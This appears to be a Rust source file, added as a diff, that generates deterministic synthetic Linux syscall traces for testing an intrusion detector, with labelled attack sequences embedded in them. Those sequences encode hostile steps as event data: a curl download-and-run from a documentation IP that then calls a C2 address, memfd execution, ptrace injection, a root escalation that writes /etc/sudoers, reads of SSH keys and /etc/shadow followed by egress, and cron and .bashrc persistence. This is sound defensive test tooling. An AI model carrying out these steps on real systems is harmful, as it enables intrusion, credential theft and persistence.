@@ -1,0 +1,845 @@
+//! A deterministic synthetic workload: the raw events of a few busy Linux hosts —
+//! systemd services, an nginx, cron, a container, an interactive shell — with
+//! process trees (fork/exec/exit with pid reuse), hot and cold file paths, network
+//! flows, and labelled attack sequences embedded among them. The same
+//! (events, seed, hosts) always gives the same trace, byte for byte.
+
+use crate::raw::{IdCall, RawBody, RawEvent, SockAddr, Task};
+use crate::trace::{TraceError, TraceWriter};
+use ritma_schemas::records::RunMeta;
+
+/// Wall clock of the synthetic runs' start: 2026-11-01T00:00:00Z.
+pub const SYNTH_START_WALL_NS: u64 = 1_793_491_200_000_000_000;
+/// Monotonic clock at the start (the hosts have been up 1000 s).
+const START_MONO_NS: u64 = 1_000_000_000_000;
+/// Mean gap between two events of one host: 50k events/s per host.
+const MEAN_GAP_NS: u64 = 20_000;
+/// One attack sequence per this many events per host, on average.
+const ATTACK_EVERY: u64 = 20_000;
+
+const O_WRONLY: u32 = 0o1;
+const O_CREAT: u32 = 0o100;
+const O_TRUNC: u32 = 0o1000;
+const O_APPEND: u32 = 0o2000;
+const O_CLOEXEC: u32 = 0o2000000;
+const PTRACE_POKETEXT: u64 = 4;
+const PTRACE_ATTACH: u64 = 16;
+const PTRACE_DETACH: u64 = 17;
+
+/// The attack sequences the workload embeds.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Attack {
+    /// A shell downloads a file to /tmp and runs it; it calls home.
+    DownloadExec,
+    /// A process creates a memfd and executes it.
+    MemfdExec,
+    /// A process attaches to another with ptrace and writes its memory.
+    PtraceInject,
+    /// An unprivileged process becomes root without executing a setuid binary.
+    PrivEsc,
+    /// A process reads a secret and then connects out.
+    SecretsEgress,
+    /// A process writes a persistence location (cron, systemd unit, shell rc).
+    Persistence,
+}
+
+impl Attack {
+    pub const ALL: [Attack; 6] = [
+        Attack::DownloadExec,
+        Attack::MemfdExec,
+        Attack::PtraceInject,
+        Attack::PrivEsc,
+        Attack::SecretsEgress,
+        Attack::Persistence,
+    ];
+
+    pub fn name(self) -> &'static str {
+        match self {
+            Attack::DownloadExec => "download_exec",
+            Attack::MemfdExec => "memfd_exec",
+            Attack::PtraceInject => "ptrace_inject",
+            Attack::PrivEsc => "priv_esc",
+            Attack::SecretsEgress => "secrets_egress",
+            Attack::Persistence => "persistence",
+        }
+    }
+}
+
+/// Where an attack sequence sits in the trace.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Label {
+    pub node: String,
+    pub attack: Attack,
+    pub first_seq: u64,
+    pub last_seq: u64,
+}
+
+impl Label {
+    /// One JSON object (the `.labels.jsonl` sidecar line).
+    pub fn to_json(&self) -> String {
+        format!(
+            r#"{{"node":"{}","attack":"{}","first_seq":{},"last_seq":{}}}"#,
+            self.node,
+            self.attack.name(),
+            self.first_seq,
+            self.last_seq
+        )
+    }
+}
+
+/// What to generate.
+#[derive(Clone, Debug)]
+pub struct SynthConfig {
+    pub events: u64,
+    pub seed: u64,
+    pub hosts: u32,
+    /// Events per trace frame.
+    pub batch: usize,
+}
+
+/// SplitMix64: tiny, fast, and fixed here so traces never change with a crate update.
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        z ^ (z >> 31)
+    }
+
+    /// Uniform in `0..n` (n > 0).
+    fn below(&mut self, n: u64) -> u64 {
+        ((self.next() as u128 * n as u128) >> 64) as u64
+    }
+
+    fn chance(&mut self, percent: u64) -> bool {
+        self.below(100) < percent
+    }
+
+    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
+        &items[self.below(items.len() as u64) as usize]
+    }
+}
+
+#[derive(Clone, Debug)]
+struct Proc {
+    pid: u32,
+    ppid: u32,
+    start_ns: u64,
+    uid: u32,
+    gid: u32,
+    euid: u32,
+    comm: &'static [u8],
+    cgroup_id: u64,
+    mnt_ns: u64,
+    pid_ns: u64,
+    net_ns: u64,
+    /// Long-lived processes are never chosen to exit.
+    resident: bool,
+}
+
+/// Cgroups of the synthetic hosts (ids are synthetic inode numbers).
+const CG_INIT: u64 = 1001;
+const CG_SSH: u64 = 1002;
+const CG_NGINX: u64 = 1003;
+const CG_CRON: u64 = 1004;
+const CG_SESSION: u64 = 1005;
+const CG_CONTAINER: u64 = 1006;
+
+const HOST_NS: (u64, u64, u64) = (4026531841, 4026531836, 4026531840);
+const CONTAINER_NS: (u64, u64, u64) = (4026532201, 4026532204, 4026532207);
+
+const HOT_PATHS: &[&[u8]] = &[
+    b"/etc/ld.so.cache",
+    b"/usr/lib/x86_64-linux-gnu/libc.so.6",
+    b"/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0",
+    b"/etc/nsswitch.conf",
+    b"/etc/localtime",
+    b"/proc/self/stat",
+    b"/sys/fs/cgroup/cpu.max",
+    b"/var/www/html/index.html",
+];
+const SHORT_LIVED: &[(&[u8], &[u8])] = &[
+    (b"/usr/bin/ls", b"ls"),
+    (b"/usr/bin/grep", b"grep"),
+    (b"/usr/bin/cat", b"cat"),
+    (b"/usr/bin/ps", b"ps"),
+    (b"/usr/bin/logrotate", b"logrotate"),
+    (b"/usr/bin/python3.11", b"python3"),
+];
+
+struct Host {
+    node: String,
+    run: u16,
+    seq: u64,
+    mono_ns: u64,
+    procs: Vec<Proc>,
+    next_pid: u32,
+    until_attack: u64,
+    attack_round: usize,
+    rng: Rng,
+    out: Vec<RawEvent>,
+}
+
+impl Host {
+    fn new(index: u32, seed: u64, run: u16) -> Self {
+        let mut rng = Rng(seed ^ (index as u64).wrapping_mul(0xa076_1d64_78bd_642f));
+        let mono_ns = START_MONO_NS + index as u64 * 17;
+        let p = |pid, ppid, start_ns, uid, comm, cgroup_id, ns: (u64, u64, u64)| Proc {
+            pid,
+            ppid,
+            start_ns,
+            uid,
+            gid: uid,
+            euid: uid,
+            comm,
+            cgroup_id,
+            mnt_ns: ns.0,
+            pid_ns: ns.1,
+            net_ns: ns.2,
+            resident: true,
+        };
+        let procs = vec![
+            p(1, 0, 1_000_000, 0, b"systemd".as_slice(), CG_INIT, HOST_NS),
+            p(812, 1, 2_500_000_000, 0, b"sshd", CG_SSH, HOST_NS),
+            p(901, 1, 3_000_000_000, 0, b"nginx", CG_NGINX, HOST_NS),
+            p(902, 901, 3_010_000_000, 33, b"nginx", CG_NGINX, HOST_NS),
+            p(903, 901, 3_020_000_000, 33, b"nginx", CG_NGINX, HOST_NS),
+            p(950, 1, 3_500_000_000, 0, b"cron", CG_CRON, HOST_NS),
+            p(
+                1200,
+                812,
+                400_000_000_000,
+                1000,
+                b"bash",
+                CG_SESSION,
+                HOST_NS,
+            ),
+            p(
+                1400,
+                1,
+                500_000_000_000,
+                0,
+                b"containerd-shim",
+                CG_CONTAINER,
+                HOST_NS,
+            ),
+            p(
+                1410,
+                1400,
+                500_100_000_000,
+                0,
+                b"java",
+                CG_CONTAINER,
+                CONTAINER_NS,
+            ),
+        ];
+        let until_attack = 1 + rng.below(ATTACK_EVERY);
+        Host {
+            node: format!("synth-{index}"),
+            run,
+            seq: 0,
+            mono_ns,
+            procs,
+            next_pid: 2000,
+            until_attack,
+            attack_round: index as usize,
+            rng,
+            out: Vec::new(),
+        }
+    }
+
+    fn meta(&self, seed: u64) -> RunMeta {
+        let mut boot_id = [0u8; 16];
+        boot_id[..8].copy_from_slice(&seed.to_be_bytes());
+        boot_id[8..12].copy_from_slice(&(self.run as u32).to_be_bytes());
+        RunMeta {
+            node: self.node.clone(),
+            boot_id,
+            sensor_version: concat!("ritma-synth ", env!("CARGO_PKG_VERSION")).into(),
+            config_digest: *blake3::hash(format!("synth seed={seed}").as_bytes()).as_bytes(),
+            window_len_ns: 1_000_000_000,
+            wall_minus_mono_ns: (SYNTH_START_WALL_NS - START_MONO_NS) as i64,
+            first_seq: 0,
+            started_wall_ns: SYNTH_START_WALL_NS,
+        }
+    }
+
+    fn task(p: &Proc) -> Task {
+        Task {
+            pid: p.pid,
+            tid: p.pid,
+            ppid: p.ppid,
+            start_ns: p.start_ns,
+            uid: p.uid,
+            gid: p.gid,
+            euid: p.euid,
+            egid: p.gid,
+            cgroup_id: p.cgroup_id,
+            mnt_ns: p.mnt_ns,
+            pid_ns: p.pid_ns,
+            net_ns: p.net_ns,
+            comm: p.comm.to_vec(),
+        }
+    }
+
+    /// Emits one event by process `i`.
+    fn emit(&mut self, i: usize, body: RawBody) {
+        // Exponential-ish gaps: bursts and lulls, mean MEAN_GAP_NS.
+        self.mono_ns += 1 + self.rng.below(2 * MEAN_GAP_NS);
+        let task = Self::task(&self.procs[i]);
+        self.out.push(RawEvent {
+            seq: self.seq,
+            mono_ns: self.mono_ns,
+            task,
+            body,
+        });
+        self.seq += 1;
+    }
+
+    fn any_proc(&mut self) -> usize {
+        self.rng.below(self.procs.len() as u64) as usize
+    }
+
+    /// Forks a child of process `parent` and execs `exe` in it; returns the child's index.
+    fn spawn(
+        &mut self,
+        parent: usize,
+        exe: &[u8],
+        comm: &'static [u8],
+        argv: Vec<Vec<u8>>,
+    ) -> usize {
+        // Pids wrap within a small range so they are reused by later processes.
+        let pid = self.next_pid;
+        self.next_pid = if self.next_pid >= 2400 {
+            2000
+        } else {
+            self.next_pid + 1
+        };
+        let start_ns = self.mono_ns + 1;
+        let mut child = Proc {
+            pid,
+            ppid: self.procs[parent].pid,
+            start_ns,
+            resident: false,
+            ..self.procs[parent].clone()
+        };
+        self.emit(
+            parent,
+            RawBody::Fork {
+                child_pid: pid,
+                child_start_ns: start_ns,
+            },
+        );
+        child.comm = comm;
+        self.procs.push(child);
+        let c = self.procs.len() - 1;
+        let ino = u64::from_be_bytes(
+            blake3::hash(exe).as_bytes()[..8]
+                .try_into()
+                .expect("8 bytes"),
+        ) & 0xff_ffff;
+        self.emit(
+            c,
+            RawBody::Exec {
+                filename: exe.to_vec(),
+                argv,
+                argv_truncated: false,
+                exe_dev: 0x803,
+                exe_ino: ino,
+            },
+        );
+        c
+    }
+
+    fn exit(&mut self, i: usize, code: i32) {
+        self.emit(i, RawBody::Exit { code });
+        self.procs.swap_remove(i);
+    }
+
+    fn routine(&mut self) {
+        let roll = self.rng.below(100);
+        match roll {
+            0..=44 => {
+                let i = self.any_proc();
+                let path: Vec<u8> = if self.rng.chance(80) {
+                    self.rng.pick(HOT_PATHS).to_vec()
+                } else {
+                    format!("/var/log/app/{}.log", self.rng.below(5000)).into_bytes()
+                };
+                let write = !self.rng.chance(85);
+                let flags = if write {
+                    O_WRONLY | O_APPEND | O_CREAT
+                } else {
+                    O_CLOEXEC
+                };
+                let result = if self.rng.chance(3) {
+                    -2
+                } else {
+                    3 + self.rng.below(60) as i64
+                };
+                self.emit(
+                    i,
+                    RawBody::Open {
+                        path,
+                        flags,
+                        mode: if write { 0o644 } else { 0 },
+                        result,
+                    },
+                );
+            }
+            45..=54 => {
+                // nginx accepts clients; the container's service calls a database.
+                if self.rng.chance(50) {
+                    let w = if self.rng.chance(50) { 3 } else { 4 };
+                    let addr = SockAddr::V4 {
+                        addr: [
+                            10,
+                            0,
+                            (self.rng.below(4)) as u8,
+                            self.rng.below(250) as u8 + 2,
+                        ],
+                        port: 30000 + self.rng.below(30000) as u16,
+                    };
+                    let result = 10 + self.rng.below(100) as i64;
+                    self.emit(w, RawBody::Accept { addr, result });
+                } else {
+                    let addr = SockAddr::V4 {
+                        addr: [10, 1, 2, 3],
+                        port: 5432,
+                    };
+                    self.emit(8, RawBody::Connect { addr, result: 0 });
+                }
+            }
+            55..=64 => {
+                let parent = if self.rng.chance(60) { 6 } else { 5 };
+                let (exe, comm) = *self.rng.pick(SHORT_LIVED);
+                let argv = vec![
+                    comm.to_vec(),
+                    format!("arg{}", self.rng.below(100)).into_bytes(),
+                ];
+                self.spawn(parent, exe, comm, argv);
+            }
+            65..=74 => {
+                let transient: Vec<usize> = (0..self.procs.len())
+                    .filter(|&i| !self.procs[i].resident)
+                    .collect();
+                if let Some(&i) =
+                    transient.get(self.rng.below(transient.len().max(1) as u64) as usize)
+                {
+                    self.exit(i, 0);
+                } else {
+                    self.emit(
+                        0,
+                        RawBody::Open {
+                            path: b"/proc/1/stat".to_vec(),
+                            flags: O_CLOEXEC,
+                            mode: 0,
+                            result: 5,
+                        },
+                    );
+                }
+            }
+            75..=79 => {
+                let n = self.rng.below(5000);
+                let old = format!("/var/log/app/{n}.log").into_bytes();
+                if self.rng.chance(50) {
+                    self.emit(
+                        5,
+                        RawBody::Rename {
+                            new: format!("/var/log/app/{n}.log.1").into_bytes(),
+                            old,
+                            flags: 0,
+                            result: 0,
+                        },
+                    );
+                } else {
+                    self.emit(
+                        5,
+                        RawBody::Unlink {
+                            path: old,
+                            flags: 0,
+                            result: 0,
+                        },
+                    );
+                }
+            }
+            _ => {
+                // Threads of the container's service read their config and classes.
+                let path = format!("/app/lib/module-{}.jar", self.rng.below(300)).into_bytes();
+                self.emit(
+                    8,
+                    RawBody::Open {
+                        path,
+                        flags: O_CLOEXEC,
+                        mode: 0,
+                        result: 9,
+                    },
+                );
+            }
+        }
+    }
+
+    fn attack(&mut self, labels: &mut Vec<Label>) {
+        let kind = Attack::ALL[self.attack_round % Attack::ALL.len()];
+        self.attack_round += 1;
+        let first_seq = self.seq;
+        let shell = 6;
+        let c2 = SockAddr::V4 {
+            addr: [203, 0, 113, 9],
+            port: 4444,
+        };
+        match kind {
+            Attack::DownloadExec => {
+                let argv = vec![
+                    b"curl".to_vec(),
+                    b"-so".to_vec(),
+                    b"/tmp/.x".to_vec(),
+                    b"http://198.51.100.7/x".to_vec(),
+                ];
+                let curl = self.spawn(shell, b"/usr/bin/curl", b"curl", argv);
+                self.emit(
+                    curl,
+                    RawBody::Connect {
+                        addr: SockAddr::V4 {
+                            addr: [198, 51, 100, 7],
+                            port: 80,
+                        },
+                        result: 0,
+                    },
+                );
+                self.emit(
+                    curl,
+                    RawBody::Open {
+                        path: b"/tmp/.x".to_vec(),
+                        flags: O_WRONLY | O_CREAT | O_TRUNC,
+                        mode: 0o755,
+                        result: 4,
+                    },
+                );
+                self.exit(curl, 0);
+                let x = self.spawn(shell, b"/tmp/.x", b".x", vec![b"/tmp/.x".to_vec()]);
+                self.emit(
+                    x,
+                    RawBody::Connect {
+                        addr: c2,
+                        result: 0,
+                    },
+                );
+            }
+            Attack::MemfdExec => {
+                let p = self.spawn(
+                    shell,
+                    b"/usr/bin/python3.11",
+                    b"python3",
+                    vec![b"python3".to_vec(), b"-c".to_vec(), b"...".to_vec()],
+                );
+                self.emit(
+                    p,
+                    RawBody::MemfdCreate {
+                        name: b"x".to_vec(),
+                        flags: 1,
+                        result: 3,
+                    },
+                );
+                self.emit(
+                    p,
+                    RawBody::Exec {
+                        filename: b"/proc/self/fd/3".to_vec(),
+                        argv: vec![b"[kworker]".to_vec()],
+                        argv_truncated: false,
+                        exe_dev: 0x1,
+                        exe_ino: 1234,
+                    },
+                );
+                self.procs[p].comm = b"3";
+                self.emit(
+                    p,
+                    RawBody::Connect {
+                        addr: c2,
+                        result: 0,
+                    },
+                );
+            }
+            Attack::PtraceInject => {
+                let p = self.spawn(
+                    shell,
+                    b"/tmp/inject",
+                    b"inject",
+                    vec![b"/tmp/inject".to_vec(), b"1410".to_vec()],
+                );
+                for request in [
+                    PTRACE_ATTACH,
+                    PTRACE_POKETEXT,
+                    PTRACE_POKETEXT,
+                    PTRACE_DETACH,
+                ] {
+                    self.emit(
+                        p,
+                        RawBody::Ptrace {
+                            request,
+                            target_pid: 1410,
+                            result: 0,
+                        },
+                    );
+                }
+            }
+            Attack::PrivEsc => {
+                let p = self.spawn(
+                    shell,
+                    b"/home/user/exploit",
+                    b"exploit",
+                    vec![b"./exploit".to_vec()],
+                );
+                self.emit(
+                    p,
+                    RawBody::SetUid {
+                        call: IdCall::Set,
+                        ids: [0, 0, 0],
+                        result: 0,
+                    },
+                );
+                self.procs[p].uid = 0;
+                self.procs[p].euid = 0;
+                self.emit(
+                    p,
+                    RawBody::Open {
+                        path: b"/etc/sudoers".to_vec(),
+                        flags: O_WRONLY | O_APPEND,
+                        mode: 0,
+                        result: 3,
+                    },
+                );
+            }
+            Attack::SecretsEgress => {
+                let p = self.spawn(
+                    shell,
+                    b"/usr/bin/python3.11",
+                    b"python3",
+                    vec![b"python3".to_vec(), b"sync.py".to_vec()],
+                );
+                self.emit(
+                    p,
+                    RawBody::Open {
+                        path: b"/home/user/.ssh/id_rsa".to_vec(),
+                        flags: O_CLOEXEC,
+                        mode: 0,
+                        result: 3,
+                    },
+                );
+                self.emit(
+                    p,
+                    RawBody::Open {
+                        path: b"/etc/shadow".to_vec(),
+                        flags: O_CLOEXEC,
+                        mode: 0,
+                        result: 4,
+                    },
+                );
+                self.emit(
+                    p,
+                    RawBody::Connect {
+                        addr: SockAddr::V4 {
+                            addr: [203, 0, 113, 50],
+                            port: 443,
+                        },
+                        result: 0,
+                    },
+                );
+            }
+            Attack::Persistence => {
+                let p = self.spawn(
+                    shell,
+                    b"/usr/bin/tee",
+                    b"tee",
+                    vec![b"tee".to_vec(), b"/etc/cron.d/update".to_vec()],
+                );
+                self.emit(
+                    p,
+                    RawBody::Open {
+                        path: b"/etc/cron.d/update".to_vec(),
+                        flags: O_WRONLY | O_CREAT | O_TRUNC,
+                        mode: 0o644,
+                        result: 3,
+                    },
+                );
+                self.emit(
+                    p,
+                    RawBody::Open {
+                        path: b"/home/user/.bashrc".to_vec(),
+                        flags: O_WRONLY | O_APPEND,
+                        mode: 0,
+                        result: 4,
+                    },
+                );
+                self.exit(p, 0);
+            }
+        }
+        labels.push(Label {
+            node: self.node.clone(),
+            attack: kind,
+            first_seq,
+            last_seq: self.seq - 1,
+        });
+    }
+
+    /// Produces at least one event.
+    fn step(&mut self, labels: &mut Vec<Label>) {
+        if self.until_attack == 0 {
+            self.attack(labels);
+            self.until_attack = 1 + self.rng.below(2 * ATTACK_EVERY);
+        } else {
+            self.routine();
+            self.until_attack -= 1;
+        }
+    }
+}
+
+/// Writes `cfg.events` events (a few more, to finish the last attack sequence) to
+/// `writer`; returns the labels of the embedded attacks, in order.
+pub fn generate(cfg: &SynthConfig, writer: &mut TraceWriter) -> Result<Vec<Label>, TraceError> {
+    let hosts_n = cfg.hosts.max(1);
+    let mut hosts = Vec::with_capacity(hosts_n as usize);
+    for i in 0..hosts_n {
+        let mut h = Host::new(i, cfg.seed, 0);
+        h.run = writer.add_run(&h.meta(cfg.seed))?;
+        hosts.push(h);
+    }
+    let mut labels = Vec::new();
+    let mut written = 0u64;
+    let batch = cfg.batch.max(1);
+    // Hosts take turns a batch at a time, so every host advances through time together.
+    while written < cfg.events {
+        for h in hosts.iter_mut() {
+            if written >= cfg.events {
+                break;
+            }
+            let want = (batch as u64).min(cfg.events - written) as usize;
+            while h.out.len() < want {
+                h.step(&mut labels);
+            }
+            written += h.out.len() as u64;
+            writer.append_batch(h.run, &h.out)?;
+            h.out.clear();
+        }
+    }
+    Ok(labels)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::trace::{TraceItem, TraceReader};
+
+    fn synth(
+        dir: &std::path::Path,
+        name: &str,
+        events: u64,
+        seed: u64,
+        hosts: u32,
+    ) -> (Vec<u8>, Vec<Label>) {
+        let p = dir.join(name);
+        let mut w = TraceWriter::create(&p).unwrap();
+        let labels = generate(
+            &SynthConfig {
+                events,
+                seed,
+                hosts,
+                batch: 1000,
+            },
+            &mut w,
+        )
+        .unwrap();
+        (std::fs::read(&p).unwrap(), labels)
+    }
+
+    #[test]
+    fn same_seed_same_bytes_other_seed_other_bytes() {
+        let d = tempfile::tempdir().unwrap();
+        let (a, la) = synth(d.path(), "a", 20_000, 7, 2);
+        let (b, lb) = synth(d.path(), "b", 20_000, 7, 2);
+        let (c, _) = synth(d.path(), "c", 20_000, 8, 2);
+        assert_eq!(a, b);
+        assert_eq!(la, lb);
+        assert_ne!(a, c);
+    }
+
+    #[test]
+    fn trace_reads_back_with_every_attack_labelled_and_pids_reused() {
+        let d = tempfile::tempdir().unwrap();
+        let (_, labels) = synth(d.path(), "t", 400_000, 1, 2);
+        for a in Attack::ALL {
+            assert!(labels.iter().any(|l| l.attack == a), "{a:?} missing");
+        }
+        let mut r = TraceReader::open(&d.path().join("t")).unwrap();
+        let mut events = Vec::new();
+        let mut runs = 0;
+        while let Some(item) = r.next_item().unwrap() {
+            match item {
+                TraceItem::Run { .. } => runs += 1,
+                TraceItem::Batch { run, events: e } => {
+                    events.extend(e.into_iter().map(|e| (run, e)))
+                }
+            }
+        }
+        assert_eq!(runs, 2);
+        assert!(events.len() >= 400_000);
+        // Every labelled range holds the attack's signature event on that node.
+        for l in &labels {
+            let run = l.node.trim_start_matches("synth-").parse::<u16>().unwrap();
+            let seqs = events
+                .iter()
+                .filter(|(r, e)| *r == run && e.seq >= l.first_seq && e.seq <= l.last_seq);
+            let has = |f: &dyn Fn(&RawBody) -> bool| seqs.clone().any(|(_, e)| f(&e.body));
+            let ok = match l.attack {
+                Attack::DownloadExec => has(
+                    &|b| matches!(b, RawBody::Exec { filename, .. } if filename.starts_with(b"/tmp/")),
+                ),
+                Attack::MemfdExec => has(&|b| matches!(b, RawBody::MemfdCreate { .. })),
+                Attack::PtraceInject => has(&|b| {
+                    matches!(
+                        b,
+                        RawBody::Ptrace {
+                            request: PTRACE_ATTACH,
+                            ..
+                        }
+                    )
+                }),
+                Attack::PrivEsc => has(&|b| matches!(b, RawBody::SetUid { ids: [0, _, _], .. })),
+                Attack::SecretsEgress => {
+                    has(&|b| matches!(b, RawBody::Open { path, .. } if path == b"/etc/shadow"))
+                }
+                Attack::Persistence => has(
+                    &|b| matches!(b, RawBody::Open { path, .. } if path.starts_with(b"/etc/cron.d/")),
+                ),
+            };
+            assert!(ok, "{l:?}");
+        }
+        // Pid reuse: some pid is started by two processes with different start times.
+        let mut starts: Vec<(u16, u32, u64)> = events
+            .iter()
+            .filter_map(|(r, e)| {
+                matches!(e.body, RawBody::Exec { .. }).then_some((*r, e.task.pid, e.task.start_ns))
+            })
+            .collect();
+        starts.sort();
+        starts.dedup();
+        assert!(
+            starts
+                .windows(2)
+                .any(|w| w[0].0 == w[1].0 && w[0].1 == w[1].1),
+            "no pid was reused"
+        );
+        // Time moves forward per host.
+        for run in 0..2u16 {
+            let t: Vec<u64> = events
+                .iter()
+                .filter(|(r, _)| *r == run)
+                .map(|(_, e)| e.mono_ns)
+                .collect();
+            assert!(t.windows(2).all(|w| w[0] < w[1]));
+        }
+    }
+}
